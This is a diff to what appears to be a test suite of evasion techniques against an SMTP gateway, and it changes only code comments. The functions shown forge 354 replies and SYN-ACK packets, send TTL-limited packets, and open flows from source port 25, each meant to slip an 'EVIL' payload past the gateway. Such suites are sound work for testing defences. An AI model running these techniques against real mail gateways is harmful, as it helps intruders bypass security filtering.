@@ -23,7 +23,8 @@ DIALOGUE = ((b"HELO x\r\n", OK), (b"MAIL FROM:<a@b.c>\r\n", OK), (b"RCPT TO:<d@e
 @technique("forged-354", "DATA that the server refuses, and a 354 in its name from the client's side")
 def forged_354(attack: Attack) -> None:
     connection = attack.session()
-    connection.put(b"DATA\r\n", ttl=LOST)  # the real answer must not come first
+    # The TTL ends between gateway and server: the server's real reply to DATA must not come before the forged one.
+    connection.put(b"DATA\r\n", ttl=LOST)
     attack.wait(0.02)
     attack.forge(connection, GO_ON)
     attack.wait(0.02)
@@ -60,7 +61,7 @@ def forged_syn_ack(attack: Attack) -> None:
     attack.forge(connection, flags=SYN | ACK, seq=77_000_000, ack=connection.sequence(0))
     attack.wait(0.02)
     if not connection.connect():
-        return  # and so nothing of it went through
+        return  # No connection was established, so nothing got past the gateway.
     connection.read()
     connection.put(EVIL)
 
@@ -133,7 +134,7 @@ def imagined_beginning(attack: Attack) -> None:
     play_both(attack, connection, 0)
     connection.peer_next = 0
     if not connection.connect():
-        return  # the gateway lets no answer through
+        return  # The gateway let no reply through, so no connection was established.
     connection.read()
     connection.put(EVIL)
 
@@ -194,7 +195,7 @@ def source_port_25(attack: Attack) -> None:
     try:
         connection = attack.session(port=25)
     except NotTried:
-        return  # a SYN from a mail server's port begins nothing: nobody to speak for
+        return  # A SYN from source port 25 opens no flow, so there is no connection in whose name to forge packets.
     attack.forge(connection, flags=SYN, seq=55_000_000)
     attack.wait(0.02)
     connection.put(EVIL)
